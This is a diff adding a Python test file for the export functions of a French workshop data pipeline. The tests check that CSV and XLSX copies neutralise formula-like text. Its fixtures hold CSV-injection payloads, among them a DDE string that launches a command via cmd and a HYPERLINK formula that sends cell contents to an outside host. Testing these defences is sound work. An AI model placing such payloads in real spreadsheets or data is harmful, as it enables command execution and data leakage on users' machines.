@@ -1,0 +1,145 @@
+"""Exports for organisers: the zip is the stored package, spreadsheet copies never run a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from conftest import contribution, participant
+
+from pipeline import export, schemas, store
+from pipeline.validate import validate_atelier
+from pipeline.workshop import AtelierError, load_atelier
+
+FORMULAS = [
+    "=1+2",
+    '=HYPERLINK("http://exemple.org/?"&A1;"Cliquez")',
+    "+33 4 70 00 00 00",
+    "-2 % de subventions",
+    "@SUM(A1:A9)",
+    "\tavec une tabulation devant",
+    "\nune ligne vide devant",
+]
+PLAIN = ["Une idée = une action", "Circuits courts : 3 communes", "'déjà une apostrophe"]
+
+
+@pytest.fixture
+def folder(make_atelier) -> Path:
+    contributions = [
+        contribution(f"f{i}", text=text, position=i + 1, created_at="2026-11-20T10:00:00Z")
+        for i, text in enumerate(FORMULAS)
+    ] + [
+        contribution(f"p{i}", text=text, position=20 + i, author="p-1", created_at="2026-11-20T11:30:00Z")
+        for i, text in enumerate(PLAIN)
+    ]
+    contributions[-1]["updated_at"] = "2026-11-21T08:15:00Z"
+    return make_atelier(participants=[participant("p-1", name="=cmd|' /C calc'!A0")], contributions=contributions)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\ta", True), ("\ra", True), ("\na", True),
+     ("\0a", True), ("", False), ("a=1", False), (" =1", False), ("'=1", False), ("été", False), ("1-2", False)],
+)
+def test_formula_like_text(text, expected):
+    assert export.is_formula_like(text) is expected
+
+
+def test_the_zip_holds_the_stored_package_byte_for_byte(folder):
+    data = export.export_zip(folder)
+    assert export.export_zip(folder) == data
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    names = ["atelier.yaml", "contributions.csv", "datapackage.json", "participants.csv"]
+    assert archive.namelist() == [f"essai-2026/{n}" for n in names]
+    for name in names:
+        assert archive.read(f"essai-2026/{name}") == (folder / name).read_bytes()
+    # Dated by the data (the last updated_at), not by the clock.
+    assert {i.date_time for i in archive.infolist()} == {(2026, 11, 21, 8, 15, 0)}
+
+
+def test_the_zip_unpacks_into_a_valid_atelier(folder, tmp_path):
+    zipfile.ZipFile(io.BytesIO(export.export_zip(folder))).extractall(tmp_path / "unzipped")
+    copy = tmp_path / "unzipped" / "essai-2026"
+    assert validate_atelier(copy) == []
+    assert [c.text for c in load_atelier(copy).contributions] == FORMULAS + PLAIN
+
+
+def test_the_zip_leaves_out_an_unfinished_append(folder):
+    stored = (folder / "contributions.csv").read_bytes()
+    with (folder / "contributions.csv").open("ab") as f:
+        f.write(b"x9,q1,brainstorming,,idea,,1,,inach")
+    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(folder)))
+    assert archive.read("essai-2026/contributions.csv") == stored
+
+
+def test_the_zip_of_a_new_atelier_is_a_package_already(tmp_path, make_atelier):
+    folder = make_atelier("vide-2026")
+    for name in ("participants.csv", "contributions.csv", "datapackage.json"):
+        (folder / name).unlink()
+    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(folder)))
+    archive.extractall(tmp_path / "unzipped")
+    assert validate_atelier(tmp_path / "unzipped" / "vide-2026") == []
+    assert archive.read("vide-2026/participants.csv") == b"id,name,organisation,role,listed,created_at,status\n"
+    assert {i.date_time for i in archive.infolist()} == {(2026, 11, 20, 0, 0, 0)}  # the day of the atelier
+
+
+def spreadsheet_rows(data: bytes) -> list[list[str]]:
+    assert data.startswith("\ufeff".encode())
+    text = data.decode("utf-8")[1:]
+    assert text.endswith("\r\n")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def test_the_spreadsheet_csv_disarms_formulas_and_only_there(folder):
+    rows = spreadsheet_rows(export.export_spreadsheet_csv(folder, "contributions"))
+    names = schemas.field_names("contributions")
+    assert rows[0] == [schemas.field("contributions", n)["title"] for n in names]
+    texts = [r[names.index("text")] for r in rows[1:]]
+    assert texts == ["'" + t for t in FORMULAS] + PLAIN
+    stored = [r["text"] for r in store.read_table(folder, "contributions")]
+    assert stored == FORMULAS + PLAIN
+    participants = spreadsheet_rows(export.export_spreadsheet_csv(folder, "participants"))
+    assert participants[1][1] == "'=cmd|' /C calc'!A0"
+
+
+def test_the_spreadsheet_csv_quotes_every_cell(folder):
+    data = export.export_spreadsheet_csv(folder, "participants").decode("utf-8")
+    assert data.splitlines()[1] == (
+        '"p-1","\'=cmd|\' /C calc\'!A0","Communauté de communes","technicien","true","2026-11-20T09:00:00Z","present"'
+    )
+
+
+def test_the_spreadsheet_csv_of_an_unknown_table_is_refused(folder):
+    with pytest.raises(AtelierError) as refused:
+        export.export_spreadsheet_csv(folder, "votes")
+    assert str(refused.value) == "ressource « votes » inconnue ; les ressources sont participants, contributions."
+
+
+def test_the_xlsx_holds_every_row_as_text(folder):
+    data = export.export_xlsx(folder)
+    assert export.export_xlsx(folder) == data
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    assert workbook.sheetnames == ["participants", "contributions"]
+    assert workbook.properties.created == workbook.properties.modified
+    assert str(workbook.properties.created) == "2026-11-21 08:15:00"
+    for resource in ("participants", "contributions"):
+        sheet = workbook[resource]
+        names = schemas.field_names(resource)
+        cells = [[c.value for c in row] for row in sheet.iter_rows()]
+        assert cells[0] == [schemas.field(resource, n)["title"] for n in names]
+        expected = [[r[n] or None for n in names] for r in store.read_table(folder, resource)]
+        assert cells[1:] == expected  # "1" stays the text "1": nothing is converted
+        assert {c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None} == {"s"}
+    # Formula-like text keeps its exact text and is marked as typed text.
+    sheet = workbook["contributions"]
+    column = schemas.field_names("contributions").index("text")
+    marks = [(row[column].value, row[column].quotePrefix) for row in sheet.iter_rows(min_row=2)]
+    assert marks == [(t, True) for t in FORMULAS] + [(t, False) for t in PLAIN]
+    assert workbook["participants"]["B2"].quotePrefix is True
+    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet2.xml")
+    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the file
+
